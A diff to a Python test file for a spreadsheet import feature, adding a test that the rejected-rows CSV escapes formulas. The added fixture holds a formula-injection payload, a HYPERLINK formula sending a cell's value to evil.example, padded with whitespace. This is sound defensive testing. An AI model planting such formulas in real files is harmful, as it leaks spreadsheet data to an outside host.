@@ -1,6 +1,8 @@
 """What an import will not do, whatever the file asks: drop the rows of a spreadsheet that
-understates its size, or tell an uploaded file from the same file on disk."""
+understates its size, write a formula into the rejected rows' CSV, or tell an uploaded file
+from the same file on disk."""
 
+import csv
 import re
 import zipfile
 from datetime import date, datetime
@@ -64,3 +66,23 @@ def test_an_xlsx_that_understates_its_size_imports_every_row(app, team, tmp_path
     assert (report.added, report.rejected) == (20, [])
     uploaded = run_import(app, team, source_for(Upload("log.xlsx", path.read_bytes()), Mapping()), "ann")
     assert (uploaded.added, uploaded.already_imported) == (0, 20)
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Open the record")'
+
+
+def test_the_rejected_rows_csv_holds_no_formula(app, team, tmp_path):
+    path = tmp_path / "log.csv"
+    with path.open("w", newline="") as handle:
+        csv.writer(handle).writerows([["date", "activity", "people", "note"],
+                                      ["2026-03-02", "check in", "Sam Patel", "fine"],
+                                      ["2026-03-03", "check in", "Sam Patel", HYPERLINK + " " * 500 + "."],
+                                      ["2026-03-04", "check in", "@SUM(A1:A9)", ""]])
+    report = run_import(app, team, source_for(path, Mapping()), "ann", skip_invalid=True,
+                        rejected_csv=path.with_suffix(".rejected.csv"))
+    assert (report.added, len(report.rejected)) == (1, 2)
+    with path.with_suffix(".rejected.csv").open(newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    assert [(row["line"], row["column"]) for row in rows] == [("3", "note"), ("4", "people")]
+    assert rows[0]["value"].startswith("'" + HYPERLINK) and rows[1]["value"] == "'@SUM(A1:A9)"
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
